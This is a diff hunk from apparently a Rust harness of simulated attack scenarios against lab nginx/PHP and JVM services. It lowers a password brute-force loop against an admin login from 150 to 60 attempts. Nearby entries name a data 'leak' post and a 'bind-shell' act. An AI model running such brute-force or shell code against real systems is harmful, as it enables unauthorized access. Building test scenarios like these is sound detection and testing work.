@@ -176,7 +176,7 @@ pub(super) const INSIDE: &[Act] = inside! {
         Ok(post(s, JVM_PORT, "leak", &["--data-binary", &what])?)
     };
     "brute-force", Other, "nginx", ["nginx", "php"], |s| Ok(from_attacker(s, &format!(
-        "import urllib.request as u\nfor i in range(150):\n try: u.urlopen('http://{}:{PHP_PORT}/login.php?u=admin&p=%d'%i)\n except OSError: pass\n",
+        "import urllib.request as u\nfor i in range(60):\n try: u.urlopen('http://{}:{PHP_PORT}/login.php?u=admin&p=%d'%i)\n except OSError: pass\n",
         Site::Service.ipv4()
     ))?);
     "bind-shell", Intrinsic, "nginx", [], |s| bound(s, Entry::Php);
